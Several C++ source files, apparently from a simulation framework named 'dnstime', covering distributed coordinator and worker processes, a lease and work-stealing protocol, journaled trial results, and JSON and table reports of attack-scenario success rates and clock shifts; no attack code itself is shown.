  const std::string exe = self_exe(opt.respawn_args.front());
  if (!book.all_done()) {
    for (u32 w = 0; w < opt.workers; ++w) {
      spawn_worker(exe, opt.respawn_args, w, workers[w]);
    }
    for (u32 w = 0; w < opt.workers; ++w) (void)try_assign(w);
  }

  std::vector<pollfd> pfds;
  std::vector<u32> pfd_worker;
  std::string line;
  u64 last_progress_done = 0;
  while (!book.all_done()) {
    pfds.clear();
    pfd_worker.clear();
    for (u32 w = 0; w < opt.workers; ++w) {
      if (workers[w].alive) {
        pfds.push_back({workers[w].rfd, POLLIN, 0});
        pfd_worker.push_back(w);
      }
    }
    if (pfds.empty()) {
      throw std::runtime_error(
          "distributed campaign failed: every worker died with " +
          std::to_string(book.target() - book.done_count()) +
          " trials outstanding");
    }
    // No timeout: every state change the loop acts on arrives as pipe
    // readability or hangup, so there is nothing to poll the clock for.
    int r;
    do {
      r = ::poll(pfds.data(), static_cast<nfds_t>(pfds.size()), -1);
    } while (r < 0 && errno == EINTR);
    if (r < 0) {
      throw std::runtime_error(std::string("poll failed: ") +
                               std::strerror(errno));
    }
    for (std::size_t i = 0; i < pfds.size(); ++i) {
      if (pfds[i].revents == 0) continue;
      const u32 w = pfd_worker[i];
      WorkerProc& p = workers[w];
      if (!p.alive) continue;  // died while handling an earlier fd
      bool saw_eof = false;
      if ((pfds[i].revents & (POLLIN | POLLHUP | POLLERR)) != 0) {
        char chunk[4096];
        for (;;) {
          ssize_t n;
          do {
            n = ::read(p.rfd, chunk, sizeof chunk);
          } while (n < 0 && errno == EINTR);
          if (n > 0) {
            p.inbuf.append(chunk, static_cast<std::size_t>(n));
            continue;
          }
          if (n == 0) saw_eof = true;  // EAGAIN just ends the drain
          break;
        }
      }
      // Process every complete line, then the EOF: a dying worker's final
      // acks must land before its lease tail is reissued, or completed
      // trials would be pointlessly re-run.
      std::size_t nl;
      while ((nl = p.inbuf.find('\n')) != std::string::npos) {
        line.assign(p.inbuf, 0, nl);
        p.inbuf.erase(0, nl + 1);
        const std::optional<Msg> msg = Msg::parse(line);
        if (!msg || msg->kind != Msg::Kind::Done) {
          saw_eof = true;  // desynchronised: treat the worker as lost
          break;
        }
        book.mark_done(w, msg->a);
        if (!kill_fired && book.done_count() >= opt.kill_after) {
          // Fault-injection hook: SIGKILL mid-run, then let the normal
          // death path observe the hangup and rebalance.
          kill_fired = true;
          if (opt.kill_worker >= 0 &&
              static_cast<u32>(opt.kill_worker) < opt.workers &&
              workers[static_cast<u32>(opt.kill_worker)].alive) {
            (void)::kill(workers[static_cast<u32>(opt.kill_worker)].pid,
                         SIGKILL);
          }
        }
        if (!book.worker_busy(w)) (void)try_assign(w);
      }
      if (saw_eof) on_worker_dead(w);
    }
    if (book.done_count() != last_progress_done) {
      last_progress_done = book.done_count();
      emit_progress(last_progress_done);
    }
  }

  // All trials acked: wind the fleet down. FIN write failures are fine
  // here (a worker that died after its last ack owes nothing).
  Msg fin;
  fin.kind = Msg::Kind::Fin;
  for (u32 w = 0; w < opt.workers; ++w) {
    WorkerProc& p = workers[w];
    if (!p.alive) continue;
    (void)write_all(p.wfd, fin.encode());
    close_fd(p.wfd);
    // Drain to EOF so the worker is never blocked on a full DONE pipe
    // while trying to exit (rfd is non-blocking, so wait via poll).
    char chunk[4096];
    for (;;) {
      ssize_t n;
      do {
        n = ::read(p.rfd, chunk, sizeof chunk);
      } while (n < 0 && errno == EINTR);
      if (n > 0) continue;
      if (n == 0) break;
      if (errno != EAGAIN && errno != EWOULDBLOCK) break;
      pollfd pd{p.rfd, POLLIN, 0};
      int pr;
      do {
        pr = ::poll(&pd, 1, -1);
      } while (pr < 0 && errno == EINTR);
      if (pr < 0) break;
    }
    close_fd(p.rfd);
    int status = 0;
    (void)::waitpid(p.pid, &status, 0);
    p.reaped = true;
    if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) {
      throw std::runtime_error(
          "dist worker " + std::to_string(w) +
          " exited abnormally after FIN (status " + std::to_string(status) +
          ")");
    }
  }

  // Identical fold to CampaignRunner::run_journaled: merge the shards back
  // into global trial order and stream them through the aggregate
  // builders. The journal, not the DONE accounting, is the ground truth —
  // the counts check makes any divergence a hard error.
  std::vector<ScenarioAggregateBuilder> builders;
  builders.reserve(scenarios.size());
  for (const ScenarioSpec& spec : scenarios) {
    builders.emplace_back(spec.name, to_string(spec.attack),
                          /*keep_results=*/false);
  }
  std::vector<u32> counts(scenarios.size(), 0);
  if (total > 0) {
    store::JournalMerge merge(dir);
    if (merge.valid()) {
      store::JournalRecord rec;
      while (merge.next(rec)) {
        counts[rec.scenario]++;
        builders[rec.scenario].add(std::move(rec.result));
      }
    }
  }
  for (std::size_t s = 0; s < scenarios.size(); ++s) {
    if (counts[s] != trials) {
      throw std::runtime_error(
          "journal '" + dir + "' is incomplete after the run: scenario '" +
          scenarios[s].name + "' has " + std::to_string(counts[s]) + " of " +
          std::to_string(trials) + " trials");
    }
  }
  CampaignReport report;
  report.seed = config.seed;
  report.trials_per_scenario = trials;
  report.scenarios.reserve(builders.size());
  for (ScenarioAggregateBuilder& b : builders) {
    report.scenarios.push_back(std::move(b).finish());
  }
  return report;
}

}  // namespace dnstime::campaign::dist
