#include "campaign/dist/worker.h"

#include <poll.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <cstdio>
#include <exception>
#include <filesystem>
#include <memory>
#include <string>

#include "campaign/dist/lease.h"
#include "campaign/store/journal.h"
#include "campaign/store/shard_writer.h"
#include "campaign/trial.h"
#include "common/stats.h"
#include "obs/json_util.h"

namespace dnstime::campaign::dist {
namespace {

/// Buffered line reader over a pipe fd. Blocking and non-blocking reads
/// share one carry buffer so a message split across read() calls is never
/// torn.
class LineReader {
 public:
  explicit LineReader(int fd) : fd_(fd) {}

  /// Blocks until a full line is available. False on EOF/error with no
  /// complete line buffered.
  bool next_blocking(std::string& line) {
    for (;;) {
      if (take_line(line)) return true;
      if (eof_) return false;
      if (!fill(/*wait=*/true)) return false;
    }
  }

  /// Drains whatever is readable right now without blocking; returns each
  /// buffered complete line in turn, false when none is pending.
  bool next_nonblocking(std::string& line) {
    fill(/*wait=*/false);
    return take_line(line);
  }

  [[nodiscard]] bool eof() const { return eof_; }

 private:
  bool take_line(std::string& line) {
    const std::size_t nl = buf_.find('\n');
    if (nl == std::string::npos) return false;
    line.assign(buf_, 0, nl);
    buf_.erase(0, nl + 1);
    return true;
  }

  /// Appends available bytes to the buffer. With wait, blocks for at least
  /// one byte. Returns false when the pipe is at EOF or errored.
  bool fill(bool wait) {
    if (eof_) return false;
    if (!wait) {
      pollfd p{fd_, POLLIN, 0};
      const int r = ::poll(&p, 1, 0);
      if (r <= 0 || (p.revents & (POLLIN | POLLHUP)) == 0) return true;
    }
    char chunk[4096];
    ssize_t n;
    do {
      n = ::read(fd_, chunk, sizeof chunk);
    } while (n < 0 && errno == EINTR);
    if (n <= 0) {
      eof_ = true;
      return false;
    }
    buf_.append(chunk, static_cast<std::size_t>(n));
    return true;
  }

  int fd_;
  std::string buf_;
  bool eof_ = false;
};

bool write_all(int fd, const std::string& data) {
  std::size_t off = 0;
  while (off < data.size()) {
    const ssize_t n = ::write(fd, data.data() + off, data.size() - off);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    off += static_cast<std::size_t>(n);
  }
  return true;
}

struct ScenarioProgress {
  u32 done = 0;
  u32 successes = 0;
};

/// One worker-local progress line. Deliberately wall-clock free (no
/// elapsed/ETA) and without campaign_* fields: those are fleet-level facts
/// only the coordinator knows; the watcher's merger recomputes rates from
/// the summed counts.
void append_progress(std::FILE* f, const ScenarioSpec& spec, u32 trial_idx,
                     bool success, u32 worker_id, u32 trials,
                     ScenarioProgress& sp) {
  if (f == nullptr) return;
  sp.done++;
  if (success) sp.successes++;
  const WilsonInterval ci = wilson_interval(sp.successes, sp.done);
  std::string line;
  line.reserve(256);
  line += "{\"scenario\":\"";
  obs::append_escaped(line, spec.name.c_str());
  line += "\",\"trial\":";
  line += std::to_string(trial_idx);
  line += ",\"success\":";
  line += success ? "true" : "false";
  line += ",\"done\":";
  line += std::to_string(sp.done);
  line += ",\"trials\":";
  line += std::to_string(trials);
  line += ",\"successes\":";
  line += std::to_string(sp.successes);
  line += ",\"rate\":";
  obs::append_double(line, static_cast<double>(sp.successes) /
                               static_cast<double>(sp.done));
  line += ",\"wilson_low\":";
  obs::append_double(line, ci.low);
  line += ",\"wilson_high\":";
  obs::append_double(line, ci.high);
  line += ",\"worker\":";
  line += std::to_string(worker_id);
  line += "}\n";
  std::fputs(line.c_str(), f);
  std::fflush(f);
}

}  // namespace

int run_worker(const CampaignConfig& config,
               const std::vector<ScenarioSpec>& scenarios,
               const DistOptions& opt) {
  // A dying coordinator must surface as a write error we can turn into
  // exit code 3, not a SIGPIPE kill that looks like a worker crash.
  std::signal(SIGPIPE, SIG_IGN);

  const u32 trials = config.trials;
  const store::JournalMeta meta =
      store::JournalMeta::describe(config.seed, trials, scenarios);

  std::FILE* progress_file = nullptr;
  if (!config.progress_path.empty()) {
    // In distributed mode --progress names a directory; each process owns
    // one file inside it so appenders never interleave mid-line.
    std::error_code ec;
    std::filesystem::create_directories(config.progress_path, ec);
    const std::string path = config.progress_path + "/worker-" +
                             std::to_string(opt.worker_id) + ".jsonl";
    progress_file = std::fopen(path.c_str(), "wb");
    if (progress_file == nullptr) {
      std::fprintf(stderr, "dist worker %u: cannot open progress file %s\n",
                   opt.worker_id, path.c_str());
      return kWorkerProtocol;
    }
  }
  const auto close_file = [](std::FILE* f) {
    if (f != nullptr) std::fclose(f);
  };
  std::unique_ptr<std::FILE, decltype(close_file)> progress_guard(
      progress_file, close_file);
  std::vector<ScenarioProgress> progress_state(
      progress_file != nullptr ? scenarios.size() : 0);

  LineReader control(opt.fd_in);
  std::string line;
  for (;;) {
    if (!control.next_blocking(line)) {
      std::fprintf(stderr,
                   "dist worker %u: coordinator pipe closed before FIN\n",
                   opt.worker_id);
      return kWorkerProtocol;
    }
    const std::optional<Msg> msg = Msg::parse(line);
    if (!msg) {
      std::fprintf(stderr, "dist worker %u: bad control message '%s'\n",
                   opt.worker_id, line.c_str());
      return kWorkerProtocol;
    }
    if (msg->kind == Msg::Kind::Fin) return kWorkerOk;
    if (msg->kind == Msg::Kind::Trim) continue;  // raced a finished lease
    if (msg->kind == Msg::Kind::Done) {
      std::fprintf(stderr, "dist worker %u: unexpected DONE from coordinator\n",
                   opt.worker_id);
      return kWorkerProtocol;
    }

    // LEASE: one fresh shard per lease keeps its keys strictly ascending
    // even when this worker later executes an earlier (stolen) range.
    u64 end = msg->b;
    bool finished_by_fin = false;
    try {
      store::ShardWriter writer(config.journal_dir, meta, msg->shard_id);
      for (u64 idx = msg->a; idx < end; ++idx) {
        // Pick up TRIMs between trials: the steal protocol shrinks the
        // active lease, and the sooner the victim notices the less
        // duplicate work the journal dedupe has to absorb.
        while (control.next_nonblocking(line)) {
          const std::optional<Msg> m = Msg::parse(line);
          if (!m) return kWorkerProtocol;
          if (m->kind == Msg::Kind::Trim) {
            if (m->a < end) end = m->a;
          } else if (m->kind == Msg::Kind::Fin) {
            // The coordinator only FINs when every trial is accounted for
            // elsewhere; stop mid-lease and exit cleanly.
            finished_by_fin = true;
          } else {
            return kWorkerProtocol;
          }
        }
        if (finished_by_fin || idx >= end) break;

        const std::size_t scenario_idx =
            static_cast<std::size_t>(idx / trials);
        const u32 trial_idx = static_cast<u32>(idx % trials);
        const ScenarioSpec& spec = scenarios[scenario_idx];
        TrialContext ctx;
        ctx.campaign_seed = config.seed;
        ctx.trial = trial_idx;
        ctx.seed = CampaignRunner::trial_seed(config.seed, spec, trial_idx);
        TrialResult result;
        try {
          result = run_trial(spec, ctx);
        } catch (const std::exception& e) {
          result.trial = trial_idx;
          result.seed = ctx.seed;
          result.error = e.what();
        } catch (...) {
          result.trial = trial_idx;
          result.seed = ctx.seed;
          result.error = "unknown exception";
        }
        writer.append(static_cast<u32>(scenario_idx), result);
        // DONE only after the journal frame is flushed: the coordinator's
        // watermark must never run ahead of durable results, or a crash
        // after the ack would lose the trial forever.
        Msg done;
        done.kind = Msg::Kind::Done;
        done.a = idx;
        done.b = result.success ? 1 : 0;
        if (!write_all(opt.fd_out, done.encode())) {
          std::fprintf(stderr, "dist worker %u: cannot reach coordinator\n",
                       opt.worker_id);
          return kWorkerProtocol;
        }
        if (progress_file != nullptr) {
          append_progress(progress_file, spec, trial_idx, result.success,
                          opt.worker_id, trials,
                          progress_state[scenario_idx]);
        }
      }
      writer.close();
    } catch (const std::exception& e) {
      std::fprintf(stderr, "dist worker %u: journal failure: %s\n",
                   opt.worker_id, e.what());
      return kWorkerJournal;
    }
    if (finished_by_fin) return kWorkerOk;
  }
}

}  // namespace dnstime::campaign::dist
