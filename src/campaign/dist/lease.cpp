#include "campaign/dist/lease.h"

#include <cassert>
#include <limits>
#include <stdexcept>

namespace dnstime::campaign::dist {
namespace {

void append_u64(std::string& out, u64 v) {
  char buf[21];
  int n = std::snprintf(buf, sizeof buf, "%llu",
                        static_cast<unsigned long long>(v));
  out.append(buf, static_cast<std::size_t>(n));
}

/// Strict decimal parse of [*pos, next space or end). Rejects empty
/// fields, non-digits and overflow; advances *pos past the field and one
/// separating space (if present).
bool parse_field(const std::string& line, std::size_t* pos, u64* out) {
  std::size_t i = *pos;
  if (i >= line.size() || line[i] < '0' || line[i] > '9') return false;
  u64 v = 0;
  for (; i < line.size() && line[i] != ' '; ++i) {
    if (line[i] < '0' || line[i] > '9') return false;
    u64 d = static_cast<u64>(line[i] - '0');
    if (v > (std::numeric_limits<u64>::max() - d) / 10) return false;
    v = v * 10 + d;
  }
  if (i < line.size()) {
    i++;  // skip one separating space...
    if (i == line.size()) return false;  // ...which must not end the line
  }
  *pos = i;
  *out = v;
  return true;
}

}  // namespace

std::string Msg::encode() const {
  std::string out;
  switch (kind) {
    case Kind::Lease:
      out = "LEASE ";
      append_u64(out, a);
      out += ' ';
      append_u64(out, b);
      out += ' ';
      append_u64(out, shard_id);
      break;
    case Kind::Trim:
      out = "TRIM ";
      append_u64(out, a);
      break;
    case Kind::Fin:
      out = "FIN";
      break;
    case Kind::Done:
      out = "DONE ";
      append_u64(out, a);
      out += ' ';
      append_u64(out, b);
      break;
  }
  out += '\n';
  return out;
}

std::optional<Msg> Msg::parse(const std::string& line) {
  Msg m;
  std::size_t pos = line.find(' ');
  const std::string verb = line.substr(0, pos);
  pos = (pos == std::string::npos) ? line.size() : pos + 1;
  if (verb == "FIN") {
    if (pos != line.size()) return std::nullopt;
    m.kind = Kind::Fin;
    return m;
  }
  if (verb == "LEASE") {
    u64 shard = 0;
    if (!parse_field(line, &pos, &m.a) || !parse_field(line, &pos, &m.b) ||
        !parse_field(line, &pos, &shard) || pos != line.size() ||
        shard > std::numeric_limits<u32>::max()) {
      return std::nullopt;
    }
    m.kind = Kind::Lease;
    m.shard_id = static_cast<u32>(shard);
    return m;
  }
  if (verb == "TRIM") {
    if (!parse_field(line, &pos, &m.a) || pos != line.size()) {
      return std::nullopt;
    }
    m.kind = Kind::Trim;
    return m;
  }
  if (verb == "DONE") {
    if (!parse_field(line, &pos, &m.a) || !parse_field(line, &pos, &m.b) ||
        pos != line.size() || m.b > 1) {
      return std::nullopt;
    }
    m.kind = Kind::Done;
    return m;
  }
  return std::nullopt;
}

LeaseBook::LeaseBook(std::vector<TrialRange> pending, u64 total_trials,
                     u32 num_workers, u32 first_shard_id)
    : workers_(num_workers),
      done_(total_trials, u8{0}),
      next_shard_id_(first_shard_id) {
  for (const TrialRange& r : pending) {
    if (r.begin >= r.end || r.end > total_trials) {
      throw std::runtime_error("invalid pending trial range");
    }
    target_ += r.size();
    pool_.push_back(r);
  }
}

std::optional<LeaseBook::Assignment> LeaseBook::next_assignment(u32 worker) {
  WorkerState& w = workers_.at(worker);
  assert(!w.busy);
  Assignment a;
  if (!pool_.empty()) {
    TrialRange r = pool_.front();
    pool_.pop_front();
    a.lease = Lease{r.begin, r.end, next_shard_id_++};
  } else {
    // Steal: split the largest outstanding remainder. The victim keeps the
    // first half (it is already executing there) and is TRIMmed; the thief
    // takes the second half into a fresh shard. Remainders of one trial
    // are left alone — splitting them buys nothing and TRIM-racing a
    // nearly-done victim would only duplicate its last trial.
    u64 best_remaining = 1;  // require >= 2 to steal
    std::size_t victim = workers_.size();
    for (std::size_t i = 0; i < workers_.size(); ++i) {
      if (i == worker || !workers_[i].busy) continue;
      const u64 remaining = workers_[i].lease.end - workers_[i].progress;
      if (remaining > best_remaining) {
        best_remaining = remaining;
        victim = i;
      }
    }
    if (victim == workers_.size()) return std::nullopt;
    WorkerState& v = workers_[victim];
    const u64 split = v.progress + (v.lease.end - v.progress + 1) / 2;
    a.lease = Lease{split, v.lease.end, next_shard_id_++};
    a.stolen = true;
    a.victim = static_cast<u32>(victim);
    a.victim_new_end = split;
    v.lease.end = split;
  }
  w.busy = true;
  w.lease = a.lease;
  w.progress = a.lease.begin;
  return a;
}

void LeaseBook::mark_done(u32 worker, u64 flat_index) {
  if (flat_index < done_.size() && done_[flat_index] == 0) {
    done_[flat_index] = 1;
    done_count_++;
  }
  WorkerState& w = workers_.at(worker);
  if (w.busy && flat_index >= w.lease.begin && flat_index < w.lease.end &&
      flat_index >= w.progress) {
    w.progress = flat_index + 1;
    if (w.progress == w.lease.end) w.busy = false;
  }
}

void LeaseBook::worker_dead(u32 worker) {
  WorkerState& w = workers_.at(worker);
  if (w.busy && w.progress < w.lease.end) {
    // Reissue the unacked tail. Trials the dead worker journaled but never
    // acked get re-executed by whoever picks this up; the journal merge
    // dedupes the overlap, so correctness only needs coverage, not
    // precision.
    pool_.push_back({w.progress, w.lease.end});
  }
  w.busy = false;
}

bool LeaseBook::worker_busy(u32 worker) const {
  return workers_.at(worker).busy;
}

const Lease& LeaseBook::active_lease(u32 worker) const {
  return workers_.at(worker).lease;
}

}  // namespace dnstime::campaign::dist
