// Distribution options shared by campaign::parse_cli, the coordinator and
// the worker entrypoint. Lives in its own header so the CLI layer can
// carry these without pulling in process-management code.
#pragma once

#include <string>
#include <vector>

#include "common/types.h"

namespace dnstime::campaign::dist {

struct DistOptions {
  /// --workers N: number of worker processes (>= 2 engages the
  /// coordinator; 0/1 mean the ordinary in-process runner).
  u32 workers = 0;

  /// argv for re-exec'ing this binary as a worker, with --workers and the
  /// --dist-kill-* flags stripped (the coordinator appends the --dist-*
  /// wiring itself).
  std::vector<std::string> respawn_args;

  /// Hidden --dist-worker wiring (set only inside spawned workers).
  bool worker_mode = false;
  int fd_in = -1;   ///< coordinator -> worker control messages
  int fd_out = -1;  ///< worker -> coordinator DONE stream
  u32 worker_id = 0;

  /// Fault-injection hook for the kill-rebalance smoke tests:
  /// --dist-kill-worker W SIGKILLs worker W once the fleet has acked
  /// --dist-kill-after N trials (default 3). -1 = disabled.
  int kill_worker = -1;
  u64 kill_after = 3;
};

}  // namespace dnstime::campaign::dist
