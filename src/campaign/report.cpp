#include "campaign/report.h"

#include <cmath>
#include <cstdio>
#include <utility>

namespace dnstime::campaign {

/// Shortest-round-trip formatting for doubles: enough digits to be exact,
/// no locale dependence — the report must be byte-stable across runs.
/// Non-finite values become `null`: %g would print `nan`/`inf`, which are
/// not JSON and silently corrupt every downstream parse of the report.
std::string json_number(double v) {
  if (!std::isfinite(v)) return "null";
  char buf[40];
  std::snprintf(buf, sizeof buf, "%.6g", v);
  return buf;
}

void json_escape_into(std::string& out, const std::string& s) {
  for (char c : s) {
    auto u = static_cast<unsigned char>(c);
    if (c == '"' || c == '\\') {
      out += '\\';
      out += c;
    } else if (c == '\n') {
      out += "\\n";
    } else if (u < 0x20) {  // RFC 8259: control characters must be escaped
      char buf[8];
      std::snprintf(buf, sizeof buf, "\\u%04x", u);
      out += buf;
    } else {
      out += c;
    }
  }
}

ScenarioAggregate ScenarioAggregate::from_results(
    const ScenarioSpec& spec, std::vector<TrialResult> results) {
  ScenarioAggregateBuilder builder(spec.name, to_string(spec.attack),
                                   /*keep_results=*/true);
  for (TrialResult& r : results) builder.add(std::move(r));
  return std::move(builder).finish();
}

ScenarioAggregateBuilder::ScenarioAggregateBuilder(std::string name,
                                                   std::string attack,
                                                   bool keep_results)
    : keep_results_(keep_results) {
  agg_.name = std::move(name);
  agg_.attack = std::move(attack);
}

void ScenarioAggregateBuilder::add(TrialResult r) {
  agg_.trials++;
  if (!r.error.empty()) agg_.errors++;
  if (r.success) {
    agg_.successes++;
    durations_.add(r.duration_s);
    duration_sum_ += r.duration_s;
    shift_sum_ += r.clock_shift_s;
  }
  metric_sum_ += r.metric;
  agg_.fragments_total += r.fragments_planted;
  if (keep_results_) agg_.results.push_back(std::move(r));
}

ScenarioAggregate ScenarioAggregateBuilder::finish() && {
  if (agg_.trials > 0) {
    agg_.success_rate =
        static_cast<double>(agg_.successes) / static_cast<double>(agg_.trials);
  }
  if (durations_.size() > 0) {
    agg_.duration_p50_s = durations_.quantile(0.5);
    agg_.duration_p90_s = durations_.quantile(0.9);
  }
  // Left-to-right running sums over trial-index order: bit-identical to the
  // mean() over trial-ordered vectors the batch path historically computed.
  agg_.duration_mean_s =
      agg_.successes > 0
          ? duration_sum_ / static_cast<double>(agg_.successes)
          : 0.0;
  agg_.shift_mean_s =
      agg_.successes > 0 ? shift_sum_ / static_cast<double>(agg_.successes)
                         : 0.0;
  agg_.metric_mean =
      agg_.trials > 0 ? metric_sum_ / static_cast<double>(agg_.trials) : 0.0;
  return std::move(agg_);
}

std::string CampaignReport::to_json(bool include_trials,
                                    const std::string& metrics_json) const {
  std::string out;
  out += "{\"seed\":" + std::to_string(seed);
  out += ",\"trials_per_scenario\":" + std::to_string(trials_per_scenario);
  out += ",\"scenarios\":[";
  bool first_scenario = true;
  for (const ScenarioAggregate& s : scenarios) {
    if (!first_scenario) out += ",";
    first_scenario = false;
    out += "{\"name\":\"";
    json_escape_into(out, s.name);
    out += "\",\"attack\":\"";
    json_escape_into(out, s.attack);
    out += "\",\"trials\":" + std::to_string(s.trials);
    out += ",\"successes\":" + std::to_string(s.successes);
    out += ",\"errors\":" + std::to_string(s.errors);
    out += ",\"success_rate\":" + json_number(s.success_rate);
    out += ",\"duration_mean_s\":" + json_number(s.duration_mean_s);
    out += ",\"duration_p50_s\":" + json_number(s.duration_p50_s);
    out += ",\"duration_p90_s\":" + json_number(s.duration_p90_s);
    out += ",\"shift_mean_s\":" + json_number(s.shift_mean_s);
    out += ",\"metric_mean\":" + json_number(s.metric_mean);
    out += ",\"fragments_total\":" + std::to_string(s.fragments_total);
    if (include_trials) {
      out += ",\"results\":[";
      bool first_trial = true;
      for (const TrialResult& r : s.results) {
        if (!first_trial) out += ",";
        first_trial = false;
        out += "{\"trial\":" + std::to_string(r.trial);
        out += ",\"seed\":" + std::to_string(r.seed);
        out += ",\"success\":" + std::string(r.success ? "true" : "false");
        out += ",\"duration_s\":" + json_number(r.duration_s);
        out += ",\"clock_shift_s\":" + json_number(r.clock_shift_s);
        out += ",\"metric\":" + json_number(r.metric);
        out += ",\"fragments_planted\":" + std::to_string(r.fragments_planted);
        out += ",\"replant_rounds\":" + std::to_string(r.replant_rounds);
        if (!r.error.empty()) {
          out += ",\"error\":\"";
          json_escape_into(out, r.error);
          out += "\"";
        }
        out += "}";
      }
      out += "]";
    }
    out += "}";
  }
  out += "]";
  if (!metrics_json.empty()) out += ",\"metrics\":" + metrics_json;
  out += "}";
  return out;
}

std::string CampaignReport::to_table() const {
  std::string out;
  char line[256];
  std::snprintf(line, sizeof line,
                "  %-24s %-9s %7s %9s %10s %10s %10s\n", "scenario", "attack",
                "trials", "success", "mean", "p50", "p90");
  out += line;
  out += "  ";
  out.append(84, '-');
  out += "\n";
  for (const ScenarioAggregate& s : scenarios) {
    std::snprintf(line, sizeof line,
                  "  %-24s %-9s %7u %8.0f%% %7.1f min %7.1f min %7.1f min\n",
                  s.name.c_str(), s.attack.c_str(), s.trials,
                  s.success_rate * 100.0, s.duration_mean_s / 60.0,
                  s.duration_p50_s / 60.0, s.duration_p90_s / 60.0);
    out += line;
  }
  return out;
}

}  // namespace dnstime::campaign
