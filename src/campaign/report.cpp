#include "campaign/report.h"

#include <cmath>
#include <cstdio>

#include "common/histogram.h"
#include "common/stats.h"

namespace dnstime::campaign {
namespace {

/// Shortest-round-trip formatting for doubles: enough digits to be exact,
/// no locale dependence — the report must be byte-stable across runs.
/// Non-finite values become `null`: %g would print `nan`/`inf`, which are
/// not JSON and silently corrupt every downstream parse of the report.
std::string fmt(double v) {
  if (!std::isfinite(v)) return "null";
  char buf[40];
  std::snprintf(buf, sizeof buf, "%.6g", v);
  return buf;
}

void json_escape_into(std::string& out, const std::string& s) {
  for (char c : s) {
    auto u = static_cast<unsigned char>(c);
    if (c == '"' || c == '\\') {
      out += '\\';
      out += c;
    } else if (c == '\n') {
      out += "\\n";
    } else if (u < 0x20) {  // RFC 8259: control characters must be escaped
      char buf[8];
      std::snprintf(buf, sizeof buf, "\\u%04x", u);
      out += buf;
    } else {
      out += c;
    }
  }
}

}  // namespace

ScenarioAggregate ScenarioAggregate::from_results(
    const ScenarioSpec& spec, std::vector<TrialResult> results) {
  ScenarioAggregate agg;
  agg.name = spec.name;
  agg.attack = to_string(spec.attack);
  agg.trials = static_cast<u32>(results.size());

  EmpiricalCdf durations;
  std::vector<double> success_durations;
  std::vector<double> shifts;
  std::vector<double> metrics;
  for (const TrialResult& r : results) {
    if (!r.error.empty()) agg.errors++;
    if (r.success) {
      agg.successes++;
      durations.add(r.duration_s);
      success_durations.push_back(r.duration_s);
      shifts.push_back(r.clock_shift_s);
    }
    metrics.push_back(r.metric);
    agg.fragments_total += r.fragments_planted;
  }
  if (agg.trials > 0) {
    agg.success_rate =
        static_cast<double>(agg.successes) / static_cast<double>(agg.trials);
  }
  if (durations.size() > 0) {
    agg.duration_p50_s = durations.quantile(0.5);
    agg.duration_p90_s = durations.quantile(0.9);
  }
  agg.duration_mean_s = mean(success_durations);
  agg.shift_mean_s = mean(shifts);
  agg.metric_mean = mean(metrics);
  agg.results = std::move(results);
  return agg;
}

std::string CampaignReport::to_json(bool include_trials) const {
  std::string out;
  out += "{\"seed\":" + std::to_string(seed);
  out += ",\"trials_per_scenario\":" + std::to_string(trials_per_scenario);
  out += ",\"scenarios\":[";
  bool first_scenario = true;
  for (const ScenarioAggregate& s : scenarios) {
    if (!first_scenario) out += ",";
    first_scenario = false;
    out += "{\"name\":\"";
    json_escape_into(out, s.name);
    out += "\",\"attack\":\"";
    json_escape_into(out, s.attack);
    out += "\",\"trials\":" + std::to_string(s.trials);
    out += ",\"successes\":" + std::to_string(s.successes);
    out += ",\"errors\":" + std::to_string(s.errors);
    out += ",\"success_rate\":" + fmt(s.success_rate);
    out += ",\"duration_mean_s\":" + fmt(s.duration_mean_s);
    out += ",\"duration_p50_s\":" + fmt(s.duration_p50_s);
    out += ",\"duration_p90_s\":" + fmt(s.duration_p90_s);
    out += ",\"shift_mean_s\":" + fmt(s.shift_mean_s);
    out += ",\"metric_mean\":" + fmt(s.metric_mean);
    out += ",\"fragments_total\":" + std::to_string(s.fragments_total);
    if (include_trials) {
      out += ",\"results\":[";
      bool first_trial = true;
      for (const TrialResult& r : s.results) {
        if (!first_trial) out += ",";
        first_trial = false;
        out += "{\"trial\":" + std::to_string(r.trial);
        out += ",\"seed\":" + std::to_string(r.seed);
        out += ",\"success\":" + std::string(r.success ? "true" : "false");
        out += ",\"duration_s\":" + fmt(r.duration_s);
        out += ",\"clock_shift_s\":" + fmt(r.clock_shift_s);
        out += ",\"metric\":" + fmt(r.metric);
        out += ",\"fragments_planted\":" + std::to_string(r.fragments_planted);
        out += ",\"replant_rounds\":" + std::to_string(r.replant_rounds);
        if (!r.error.empty()) {
          out += ",\"error\":\"";
          json_escape_into(out, r.error);
          out += "\"";
        }
        out += "}";
      }
      out += "]";
    }
    out += "}";
  }
  out += "]}";
  return out;
}

std::string CampaignReport::to_table() const {
  std::string out;
  char line[256];
  std::snprintf(line, sizeof line,
                "  %-24s %-9s %7s %9s %10s %10s %10s\n", "scenario", "attack",
                "trials", "success", "mean", "p50", "p90");
  out += line;
  out += "  ";
  out.append(84, '-');
  out += "\n";
  for (const ScenarioAggregate& s : scenarios) {
    std::snprintf(line, sizeof line,
                  "  %-24s %-9s %7u %8.0f%% %7.1f min %7.1f min %7.1f min\n",
                  s.name.c_str(), s.attack.c_str(), s.trials,
                  s.success_rate * 100.0, s.duration_mean_s / 60.0,
                  s.duration_p50_s / 60.0, s.duration_p90_s / 60.0);
    out += line;
  }
  return out;
}

}  // namespace dnstime::campaign
