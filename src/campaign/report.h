// Structured campaign results: per-scenario aggregates over trial results,
// with deterministic JSON and ASCII-table writers.
//
// Reports contain only simulation-derived values — no wall-clock times, no
// thread counts — so the same campaign seed yields byte-identical output
// regardless of how many workers executed it.
#pragma once

#include <string>
#include <vector>

#include "campaign/scenario_spec.h"

namespace dnstime::campaign {

/// Aggregate over all trials of one scenario. Quantiles are computed over
/// successful trials only (an unsuccessful trial's duration is the
/// deadline, which would say nothing about the attack).
struct ScenarioAggregate {
  std::string name;
  std::string attack;
  u32 trials = 0;
  u32 successes = 0;
  u32 errors = 0;
  double success_rate = 0.0;
  double duration_mean_s = 0.0;
  double duration_p50_s = 0.0;
  double duration_p90_s = 0.0;
  double shift_mean_s = 0.0;   ///< mean final clock offset, successful trials
  double metric_mean = 0.0;    ///< mean scenario-defined metric, all trials
  u64 fragments_total = 0;
  std::vector<TrialResult> results;  ///< trial-index order

  /// Builds the aggregate from trial-ordered results (reuses
  /// common/stats.h means and common/histogram.h EmpiricalCdf quantiles).
  [[nodiscard]] static ScenarioAggregate from_results(
      const ScenarioSpec& spec, std::vector<TrialResult> results);
};

